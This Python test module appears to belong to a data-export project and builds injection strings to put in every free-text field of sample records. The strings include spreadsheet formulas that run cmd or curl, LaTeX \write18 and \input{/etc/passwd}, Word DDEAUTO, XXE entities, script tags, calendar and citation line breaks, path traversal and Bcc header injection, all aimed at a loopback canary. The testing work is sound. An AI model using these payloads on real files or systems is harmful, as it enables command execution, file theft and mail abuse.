"""Strings that mean something to a program that opens a file or a mail, and records with one in every field of others.

They join those of ``tests/hostile.py``, which are made for pages. Each names a canary: an address on loopback that notes
whoever comes.
"""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from itertools import chain, islice, product
from typing import Any, TypeVar

from data.export import Extract
from data.rows import Change, ChangeLine, DossierRow, ListedActor, Statement
from tests import hostile
from tests.data.export.sample import SREN

Record = TypeVar("Record")

_RUN = hostile.SCRIPT
_SHEETS = (
    '=HYPERLINK("{c}/h","x")', '=WEBSERVICE("{c}/w")', '=IMPORTXML("{c}/x","//a")', '=IMPORTDATA("{c}/d")', '=IMAGE("{c}/i")',
    "=cmd|'/C curl {c}'!A0", '=DDE("soffice";"{c}";"x")', "@SUM(1+1)*cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0",
    '\t=WEBSERVICE("{c}/t")', '\r=WEBSERVICE("{c}/r")', '\n=WEBSERVICE("{c}/n")', "\x00=1+1", "＝1+1", "＠SUM(1)", "－1+1", " =1+1",
    '";=WEBSERVICE("{c}/s")', '","=WEBSERVICE(""{c}/q"")"', '"\r\n=WEBSERVICE("{c}/l")\r\n', "'=1+1", "\ufeff=1+1", "\u2212" "1+1",
    '|=WEBSERVICE("{c}/b")', "_x003D_1+1", "%0A=1+1",
)  # fmt: skip
_CALENDARS = (
    "\r\nATTENDEE:mailto:a@b.example", "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:x", "\nATTACH:{c}/a", "\u2028ATTACH:{c}/a",
    "\x0bATTACH:{c}/a", "\x85ATTACH:{c}/a", '";ALTREP="{c}/alt":x', "\\nBEGIN:VALARM", "\r\n URL:{c}/u", "\r\nX-A;B=C:d",
)  # fmt: skip
_REFERENCES = (
    "\r\nER  - \r\nTY  - GEN\r\nTI  - x", "\nUR  - {c}/u", "\x0cL1  - {c}/l", "\u2029L1  - {c}/l", "\r\n\r\nTY  - BOOK",
    "}}\n@comment{x", "}, url = {{c}/u}, x = {", '"}, note = {', r"\input{/etc/passwd}", r"\write18{curl {c}/w}",
    r"\immediate\write18{curl {c}/w}", r"\href{{c}/h}{x}", r"\includegraphics{{c}/g}", '@preamble{"\\input x"}',
    "% rest", "\n@misc{x, title = {y}}", r"\csname input\endcsname", "^^5cinput{x}", r"$\def\x{}$", r"\catcode`\@=0",
    '@string{x = "y"}', "{", "}", "\\",
)  # fmt: skip
_TYPESETTING = (
    '#read("/etc/passwd")', '#image("{c}/i.png")', '#import "@preview/x:0.1.0": *', '#include "x.typ"', '#eval("1+1")',
    '#link("javascript:x")[x]', '$#read("/etc/passwd")$', "@reference <label>", "#{ let x = 1 }", "#sys.inputs", '"; #panic("x")',
)  # fmt: skip
_DOCUMENTS = (
    '{ INCLUDEPICTURE "{c}/p" \\d }', '{ DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" }', '\x13INCLUDETEXT "{c}/t"\x14x\x15',
    '</w:t></w:r><w:r><w:instrText>INCLUDEPICTURE "{c}/w"</w:instrText></w:r>', '"/><Relationship Target="{c}/r" TargetMode="External',
    "_x000D_=1", "</t></is></c><c><f>1+1</f>",
)  # fmt: skip
_MARKUP = (
    '<!DOCTYPE a [<!ENTITY e SYSTEM "{c}/e">]>&e;', "&e;&amp;&lt;", "]]><x/>", '<?xml-stylesheet href="{c}/s"?>', '"/><node id="x"/>',
    "</data></node></graph>", '<xi:include href="{c}/x"/>', '<image href="{c}/i"/>', '<use href="{c}/u#u"/>', "url({c}/u)",
    f"</text><script>{_RUN}</script>", f"<foreignObject><img src=x onerror={_RUN}></foreignObject>", f"<animate onbegin={_RUN}>",
    "<style>@import url({c}/c)</style>", "</title></style><img src={c}/z>", "</script><script src={c}/j></script>", f'"}};{_RUN};//',
    "\u2028" f"{_RUN}", "__proto__", '{"@context":"{c}/k"}',
)  # fmt: skip
_WORDS = (
    "![x]({c}/m)", "[![x]({c}/m)]({c}/n)", "<img src={c}/g>", "x\n\n---\n\n# h\n\n![x]({c}/y)", "[r]: {c}/r\n\n![r]", "a\n\n    ![b]({c}/b)",
    f"[x](javascript:{_RUN})", "<{c}/auto>", "{c}/plain", "~~~\n![x]({c}/f)\n~~~", "[^1]: {c}/f",
)  # fmt: skip
_NAMES = ("../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "a/../../b.csv", "x\x00.csv", "a" * 300)
_HEADERS = (
    "x\r\nBcc: a@b.example", "=?utf-8?q?x=0D=0ABcc:_a@b.example?=", "\nContent-Type: text/html\n\n<img src={c}/m>", "\r\n.\r\nMAIL FROM:<a@b>",
    "\u2028Bcc: a@b.example", "--===============\r\n", "=?utf-8?b?DQpCY2M6IGFAYi5leGFtcGxl?=", "x\x00\r\nSubject: y",
)  # fmt: skip
CORES = (*_SHEETS, *_CALENDARS, *_REFERENCES, *_TYPESETTING, *_DOCUMENTS, *_MARKUP, *_WORDS, *_NAMES, *_HEADERS)
_BEFORE = ("", "x ", '"', "'", "}", ">", "\\", "\r\n", ")", "]]>")

#: fields whose words are ours: ids, codes, instants and days as they are read
OURS = frozenset({
    "event_id", "date", "date_start", "date_end", "precision", "status", "outcome", "type", "family", "jurisdiction",
    "dossier_id", "dossier_stage", "track", "stage", "lang", "origin", "verified", "review_state", "harms", "approaches",
    "first_seen_at", "changed_at", "kind", "role", "stance", "source_id", "payload_sha256", "retrieved_at", "quote_lang",
    "actor_id", "stage_since", "stage_event_id", "first_on", "last_on", "next_on", "next_event_id", "code", "at", "entity",
    "entity_id", "field", "by",
})  # fmt: skip


def strings(canary: str, count: int) -> list[str]:
    """Distinct strings, of this module and of ``tests/hostile.py`` in turn, the cores of both in every setting first."""
    pages = (one.replace(hostile.CANARY, canary) for one in hostile.strings())
    files = (before + core.replace("{c}", canary) for before, core in product(_BEFORE, CORES))
    return list(islice(dict.fromkeys(chain.from_iterable(zip(files, pages, strict=False))), count))


def harmless(text: str) -> str:
    """A text as long, with as many lines, of letters, digits and spaces alone: the same record without any payload.

    One of white space alone stays so: writers have words of their own for what says nothing.
    """
    if text.isspace():
        return text
    plain = (
        "".join(one if one == " " or (one.isascii() and one.isalnum()) else "x" for one in line)
        for line in text.splitlines()
    )
    return "\n".join(line if line.strip() else "x" for line in plain) or "x"


def filled(record: Record, text: str, link: str) -> Record:
    """The record with the text in every field that is not of :data:`OURS`, ``link`` where an address stands."""
    assert is_dataclass(record)
    values = {one.name: getattr(record, one.name) for one in fields(record) if one.name not in OURS}
    return replace(
        record, **{name: link if name == "url" else _with(value, text, link) for name, value in values.items()}
    )


def _with(value: Any, text: str, link: str) -> Any:
    if isinstance(value, str):
        return text
    if isinstance(value, dict):
        return {"fr": text, "en": text}
    if isinstance(value, tuple) and value and isinstance(value[0], str):
        return (text,)
    if isinstance(value, tuple) and value and isinstance(value[0], tuple):
        return tuple((scheme, text) for scheme, _ in value)
    if isinstance(value, tuple):
        return tuple(filled(one, text, link) for one in value)
    return value


_ACTOR = ListedActor("fr-an", "n", "", "parliament", "fr", "u", "payload", (("wikidata", "q"), ("monitor", "m")))
_FILE = DossierRow(
    "fr-loi-sren", "fr", "law", "t", "fr", {}, "enacted", "2024-05-21", "", "u", (("fr.an.dossier", "x"), ("ecli", "y")),
    ("ncii",), ("criminal_offence",), 1, "2024-05-21", "2024-05-21", "", "", False, "payload", "official",
)  # fmt: skip
_STATEMENT = Statement(
    "fr-an", "n", "", "parliament", "", "t", {}, "opposes", False, "2024-05-21", "fr", "", 0, "q", "r", "t", {}, "u", "p",
)  # fmt: skip
_CHANGE = Change(
    "2026-11-24T07:30:00Z", "correction", "event", "", False, "t", {}, "fr", (ChangeLine("title", "o", "n"),), "team", {}, "w",
)  # fmt: skip


def extract(texts: list[str], first: int = 0) -> Extract:
    """An event, a file, an actor, a statement and a change for each text, numbered from ``first``, all fields filled."""
    events, actors, dossiers, statements, titles, changes = [], {}, {}, [], {}, {}
    for number, text in enumerate(texts, start=first):
        event_id, actor_id, dossier_id = f"e-{number:04d}", f"a-{number:04d}", f"d-{number:04d}"
        link = (text, f"https://a.example/{text}")[number // 2 % 2]
        event = filled(replace(SREN, event_id=event_id, dossier_id=dossier_id), text, link)
        who = replace(event.actors[0], actor_id=actor_id, stance="opposes")
        event = replace(event, actors=(who, *event.actors[1:]))
        events.append(event)
        actors[actor_id] = filled(replace(_ACTOR, actor_id=actor_id), text, link)
        dossiers[dossier_id] = filled(replace(_FILE, dossier_id=dossier_id, stage_event_id=event_id), text, link)
        said = replace(_STATEMENT, actor_id=actor_id, dossier_id=dossier_id, event_id=event_id)
        statements.append(filled(said, text, link))
        titles |= {(one.source_id, one.url): (text, "fr") for one in event.sources}
        changes[event_id] = [filled(replace(_CHANGE, entity_id=event_id), text, link)]
    return Extract(events, actors, dossiers, statements, titles, changes)
